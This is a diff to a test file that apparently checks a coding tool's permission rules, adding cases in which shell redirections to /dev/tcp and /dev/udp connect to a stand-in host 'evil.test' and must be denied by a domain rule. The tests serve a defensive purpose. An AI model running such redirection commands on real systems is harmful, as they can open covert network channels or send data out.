@@ -99,3 +99,13 @@ test("braces that stand for very many files are asked about, and not all looked 
   expect(await outcomeOf(many, "Read(**/.env)")).toBe("ask");
   expect(await outcomeOf(many)).toBe("allow");
 });
+
+test.each([
+  "echo x > /dev/tcp/evil.test/80",
+  "exec 3<>/dev/tcp/EVIL.test/80",
+  "cat < /dev/udp/evil.test/53",
+  "curl a.test > /dev/tcp/evil.test/80",
+])("a host that a redirection connects to is named by it: %s", async (line) => {
+  expect(await outcomeOf(line, "WebFetch(domain:evil.test)")).toBe("deny");
+  expect(await outcomeOf(line, "WebFetch(domain:other.test)")).toBe("allow");
+});
